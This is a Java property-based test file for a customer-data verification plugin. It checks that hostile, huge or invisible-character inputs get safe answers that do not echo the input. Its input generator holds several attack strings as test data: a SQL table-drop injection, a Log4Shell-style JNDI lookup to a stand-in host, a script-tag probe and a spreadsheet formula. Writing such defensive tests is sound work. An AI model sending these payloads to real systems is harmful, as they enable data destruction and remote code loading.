package org.balcao.plugin.verifier.local;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.EnumSet;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.balcao.spi.Address;
import org.balcao.spi.PluginException;
import org.balcao.spi.verification.Check;
import org.balcao.spi.verification.CheckResult;
import org.junit.jupiter.api.Test;

/** Whatever is typed, every check gets an answer, and no answer repeats what was typed as code. */
class HostileTextsTest {
  private static final EnumSet<Check> MADE =
      EnumSet.of(
          Check.TAX_ID_FORMAT,
          Check.NAME_PLAUSIBLE,
          Check.POSTAL_CODE_MATCHES,
          Check.PHONE_FORMAT,
          Check.EMAIL_FORMAT,
          Check.EMAIL_PLAUSIBLE,
          Check.EMAIL_TRUSTED);

  private final Said said = new Said();

  @Property(tries = 300)
  void everyTextGetsAnAnswer(@ForAll("texts") String text) {
    say(text);
    for (Check check : MADE) {
      CheckResult result = said.result(check);
      assertNotNull(result, check::name);
      if (text.length() > 2 && result instanceof CheckResult.Contradicted no) {
        assertFalse(no.code().contains(text), () -> check + " quotes what was typed");
      }
    }
  }

  @Test
  void hugeTextsCostNothing() {
    String[] huge = {
      "a".repeat(1_000_000),
      "a@" + "a.".repeat(500_000) + "com",
      "\"" + "\\a".repeat(300_000) + "\"@example.com",
      "+" + "1".repeat(1_000_000),
      "ab ".repeat(300_000)
    };
    assertTimeoutPreemptively(
        Duration.ofSeconds(10),
        () -> {
          for (String text : huge) {
            say(text);
            MADE.forEach(said::result);
          }
        });
    assertEquals("too-long", said.word(Check.NAME_PLAUSIBLE));
    assertEquals("too-long", said.word(Check.TAX_ID_FORMAT));
    assertEquals("too-long", said.word(Check.PHONE_FORMAT));
    assertEquals("malformed", said.word(Check.EMAIL_FORMAT));
  }

  @Test
  void whatIsInvisibleIsNoName() {
    assertEquals("strange-characters", said.name("Ana\u0000Lima"));
    assertEquals("strange-characters", said.name("Ana\nLima"));
    assertEquals("no-letters", said.name("\u202e\u200b"));
  }

  @Test
  void onlyTheChecksOfTheSettingsAreMade() {
    Said few = new Said("checks", "phone-format");
    few.name = "qwertyuiop";
    assertEquals("unsupported", few.word(Check.NAME_PLAUSIBLE));
    assertEquals("no-such-range", few.phone("99999"));
    assertThrows(PluginException.class, () -> new Said("checks", "identity"));
    assertThrows(PluginException.class, () -> new Said("checks", " , "));
  }

  private void say(String text) {
    said.name = text;
    said.taxId = text;
    said.email = text;
    said.phone = text;
    String bounded = text.length() > 200 ? text.substring(0, 200) : text;
    said.address = Address.of("Ana Lima", "Rua A, 1", "Cidade", bounded, bounded, "BR");
  }

  @Provide
  Arbitrary<String> texts() {
    return Arbitraries.oneOf(
        Arbitraries.strings().all().ofMaxLength(60),
        Arbitraries.strings().withChars("0123456789./-+@aA .\u0301\u200d\ud83d").ofMaxLength(40),
        Arbitraries.of(
            "'; drop table balcao_customer; --",
            "${jndi:ldap://x.example/a}",
            "<script>alert(1)</script>",
            "\ud83d",
            "@",
            "a@\ud83d.com",
            "a@xn--\u0000.com",
            ".@.",
            "ﬃﬃﬃﬃ",
            "%00",
            "=1+1"));
  }
}
